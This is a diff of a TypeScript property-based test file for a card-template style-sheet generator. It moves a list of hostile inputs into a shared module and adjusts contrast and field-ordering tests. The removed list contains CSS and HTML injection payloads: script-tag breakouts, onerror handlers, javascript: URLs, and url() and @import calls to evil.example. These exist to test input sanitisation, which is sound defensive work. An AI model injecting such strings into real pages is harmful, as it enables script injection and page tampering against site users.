@@ -3,100 +3,16 @@ import path from 'node:path';
 import fc from 'fast-check';
 import { expect, test } from 'vitest';
 import { defaultContent } from '../defaults.ts';
-import type { TemplateContent } from '../events.ts';
-import {
-  type DataSource,
-  fieldTypes,
-  isAlwaysShown,
-  placesOf,
-  sourcesOf,
-  type TemplateName,
-  templateNames,
-} from '../parts.ts';
+import type { TemplateContent, TemplateField } from '../events.ts';
+import { hostileTemplateOf } from '#tests/support/made/hostile-templates.ts';
+import { fieldTypes, placesOf, type TemplateName, templateNames } from '../parts.ts';
 import { contentOf, TemplateFileSchema } from '../requests.ts';
-import { coloursOf, ours } from './colours.ts';
+import { coloursOf, isBadge, ours } from './colours.ts';
 import { contrast, LEGIBLE } from './contrast.ts';
 import { properties } from './rules.ts';
 import { rulesOf, styleSheetOf } from './style-sheet.ts';
 
 const names = Object.keys(templateNames) as TemplateName[];
-
-/** What somebody might try to write into a style sheet, a page or a script. */
-const hostile = fc.oneof(
-  fc.constantFrom(
-    '</style><script>alert(1)</script>',
-    'red;} body{display:none} .x{',
-    '#fff;background:url(https://evil.example/?c)',
-    'expression(alert(1))',
-    '@import "https://evil.example/x.css";',
-    'javascript:alert(1)',
-    '"><img src=x onerror=alert(1)>',
-    '12px;position:fixed;inset:0;z-index:9999',
-    '\\75rl(x)',
-    '*/}html{visibility:hidden}/*',
-    '\u202e\u0000',
-    '1e9px',
-    '#ffffff\n}',
-    '__proto__',
-  ),
-  fc.string({ unit: 'binary', maxLength: 40 }),
-  fc.anything(),
-);
-/** What was meant, or something else in its place. */
-const or = <Value>(meant: fc.Arbitrary<Value>): fc.Arbitrary<unknown> =>
-  fc.oneof({ weight: 30, arbitrary: meant }, { weight: 1, arbitrary: hostile });
-const colour = fc.oneof(
-  fc.constantFrom('#ffffff', '#000000', '#9333ea', '#fdfbf8', '#FEFEFE'),
-  fc.integer({ min: 0, max: 0xffffff }).map((value) => `#${value.toString(16).padStart(6, '0')}`),
-);
-const pixels = (max: number): fc.Arbitrary<unknown> =>
-  fc.oneof(
-    fc.integer({ min: 0, max }),
-    fc.integer({ min: 0, max }).map((value) => `${value}px`),
-  );
-const templateOf = (name: TemplateName): fc.Arbitrary<unknown> =>
-  fc.record({
-    name: or(fc.constant(name)),
-    config: or(
-      fc.record({
-        layout: or(fc.constantFrom('grid', 'list', 'card')),
-        columns: or(fc.integer({ min: 1, max: 4 })),
-        spacing: or(pixels(48)),
-        cardStyle: or(fc.record({ backgroundColor: or(colour), borderRadius: or(pixels(32)) })),
-        globalStyles: or(fc.record({ primaryColor: or(colour), font: or(fc.constantFrom('Nunito', 'Georgia')) })),
-      }),
-    ),
-    fields: or(
-      fc
-        .subarray([...sourcesOf(name)])
-        .chain((sources) => fc.tuple(...sources.map((source, index) => fieldOf(name, source, index)))),
-    ),
-  });
-const fieldOf = (name: TemplateName, source: DataSource, index: number): fc.Arbitrary<unknown> =>
-  fc.record(
-    {
-      fieldName: or(fc.constant(`field${index}`)),
-      fieldType: or(fc.constantFrom(...(placesOf[name][source] ?? ['text']))),
-      displayName: or(fc.string({ minLength: 1, maxLength: 20 }).map((text) => `x${text}`)),
-      dataSource: or(fc.constant(source)),
-      isVisible: or(isAlwaysShown(source) ? fc.constantFrom(true, true, true, false) : fc.boolean()),
-      isRequired: fc.constant(false),
-      order: or(fc.integer({ min: 0, max: 30 })),
-      styles: or(
-        fc.record(
-          {
-            fontSize: or(fc.integer({ min: 14, max: 28 })),
-            fontWeight: or(fc.constantFrom('normal', 'bold')),
-            color: or(colour),
-            backgroundColor: or(colour),
-            borderRadius: or(pixels(32)),
-          },
-          { requiredKeys: [] },
-        ),
-      ),
-    },
-    { requiredKeys: ['fieldName', 'fieldType', 'displayName', 'dataSource', 'order'] },
-  );
 
 /** Every value that a declaration may have. */
 const value =
@@ -123,17 +39,21 @@ const check = (name: TemplateName, content: TemplateContent): void => {
   }
   const colours = coloursOf(content);
   const grounds = [colours.card ?? ours.card, ours.page];
-  for (const words of [ours.ink, ours.soft, colours.primary ?? ours.link])
+  for (const words of [ours.ink, ours.soft, ours['warn-ink'], colours.primary ?? ours.link])
     for (const ground of grounds) expect(contrast(words, ground)).toBeGreaterThanOrEqual(LEGIBLE);
-  for (const { words, ground } of colours.fields)
-    for (const under of ground === null ? grounds : [ground])
+  for (const [index, { words, ground }] of colours.fields.entries())
+    for (const under of ground === null ? groundsOf(content.fields[index], grounds) : [ground])
       expect(contrast(words ?? ours.ink, under)).toBeGreaterThanOrEqual(LEGIBLE);
 };
+
+/** What words stand on that have no ground of the template's. */
+const groundsOf = (field: TemplateField | undefined, grounds: readonly string[]): readonly string[] =>
+  field && isBadge(field) ? [ours.tint] : grounds;
 
 test.each(names)('of a %s whatever is written is refused, or becomes numbers and colours that hide nothing', (name) => {
   let accepted = 0;
   fc.assert(
-    fc.property(templateOf(name), (typed) => {
+    fc.property(hostileTemplateOf(name), (typed) => {
       const parsed = TemplateFileSchema.safeParse(typed);
       if (!parsed.success) {
         expect(parsed.error.issues[0]?.message).toBeTruthy();
@@ -162,13 +82,24 @@ test.each(names)('a %s without fields shows what is always shown and hides the r
   expect(hidden.length).toBeGreaterThan(3);
 });
 
-test('what comes first in a template comes first on the card', () => {
+test('what has no place any more, in a version of long ago, is passed over', () => {
+  const content = defaultContent('directory_card');
+  const [picture] = content.fields;
+  if (!picture) throw new Error('There is no first field.');
+  const gone = { ...picture, fieldName: 'capacity', dataSource: 'capacity', fieldType: 'text', order: 99 } as const;
+  const old = { ...content, fields: [...content.fields, gone] };
+  expect(styleSheetOf([{ name: 'directory_card', content: old }])).toBe(
+    styleSheetOf([{ name: 'directory_card', content }]),
+  );
+});
+
+test('what comes first in a template comes first on the card; a price at the end stands beside what to do next', () => {
   const content = defaultContent('directory_card');
   const reversed = { ...content, fields: content.fields.map((each) => ({ ...each, order: 20 - each.order })) };
   const orderOf = (fact: string, of: TemplateContent): unknown =>
     rulesOf('directory_card', of).find(({ on, selector }) => on === 'phone' && selector === `.card [data-fact=${fact}]`)
       ?.declarations.order;
-  expect(['when', 'name', 'price'].map((fact) => orderOf(fact, content))).toEqual([1, 3, 7]);
+  expect(['when', 'name', 'price'].map((fact) => orderOf(fact, content))).toEqual([1, 3, undefined]);
   expect(['when', 'name', 'price'].map((fact) => orderOf(fact, reversed))).toEqual([6, 5, 1]);
 });
 
